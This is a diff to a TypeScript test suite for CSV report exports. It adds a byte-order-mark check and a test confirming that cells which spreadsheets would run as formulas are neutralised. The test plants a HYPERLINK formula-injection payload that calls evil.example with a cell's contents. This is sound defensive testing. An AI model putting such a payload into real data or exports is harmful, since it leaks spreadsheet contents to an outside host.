@@ -5,6 +5,7 @@ import { sql } from 'drizzle-orm';
 import { startTestEnv, type TestEnv } from './support/env';
 import { call } from './support/fixtures';
 import { toCsv } from '../api/reports';
+import { rowsOf } from '../db/client';
 
 let env: TestEnv;
 
@@ -120,18 +121,37 @@ describe('reports', () => {
     const res = await call(env.api, 'auditor', 'GET', `/reports/offices?${MARCH}&format=csv`);
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     expect(res.headers['content-disposition']).toContain('tarkhees-offices-2025-03-01-2025-03-31.csv');
-    const lines = res.body.trimEnd().split('\r\n');
+    // A byte-order mark first, so that Excel reads the file as UTF-8 and shows Arabic names as Arabic.
+    expect(res.body.startsWith('\uFEFF')).toBe(true);
+    const lines = res.body.slice(1).trimEnd().split('\r\n');
     expect(lines[0]).toBe(
       'officeId,officeName,received,issued,excludedIncomplete,excludedConditions,rejected,open,medianDaysToIssue,p90DaysToIssue,firstTimeCompleteShare,reviewsDecided,slaComplianceShare',
     );
     expect(lines).toHaveLength(3);
     const summary = await call(env.api, 'auditor', 'GET', `/reports/summary?${MARCH}&format=csv`);
-    const rows = summary.body.trimEnd().split('\r\n');
+    const rows = summary.body.slice(1).trimEnd().split('\r\n');
     expect(rows[0]).toBe('scope,key,name,received,issued,excludedIncomplete,excludedConditions,rejected,open');
     expect(rows[1]).toBe('total,,,8,3,1,1,1,2');
     expect(rows.filter((l) => l.startsWith('office,'))).toHaveLength(2);
     // A cell with a comma, a quote or a line break is quoted.
-    expect(toCsv([{ name: 'Al-Ahsa, "North"', n: 1 }])).toBe('name,n\r\n"Al-Ahsa, ""North""",1\r\n');
+    expect(toCsv([{ name: 'Al-Ahsa, "North"', n: 1 }])).toBe('\uFEFFname,n\r\n"Al-Ahsa, ""North""",1\r\n');
+  });
+
+  it("neutralises a cell a spreadsheet would run as a formula, such as an office's name", async () => {
+    const [{ name }] = (await rowsOf<{ name: string }>(env.db.db, sql`select name from offices where id = ${env.offices.b}`)) as [{ name: string }];
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"مكتب")';
+    await env.db.db.execute(sql`update offices set name = ${evil} where id = ${env.offices.b}`);
+    try {
+      const res = await call(env.api, 'auditor', 'GET', `/reports/offices?${MARCH}&format=csv`);
+      const row = res.body.split('\r\n').find((l) => l.startsWith(`${env.offices.b},`))!;
+      // Shown as text: an apostrophe first, then the name as it is (quoted, for its quotes and comma).
+      expect(row.startsWith(`${env.offices.b},"'=HYPERLINK(""http://evil.example/?""&A1,""مكتب"")",`)).toBe(true);
+      for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(toCsv([{ v: `${start}1+1` }]).split('\r\n')[1]).toMatch(/^"?'/);
+      // Numbers stay numbers.
+      expect(toCsv([{ v: -3 }])).toBe('\uFEFFv\r\n-3\r\n');
+    } finally {
+      await env.db.db.execute(sql`update offices set name = ${name} where id = ${env.offices.b}`);
+    }
   });
 
   it('answers 400 for a period that is not one, and 403 to office staff', async () => {
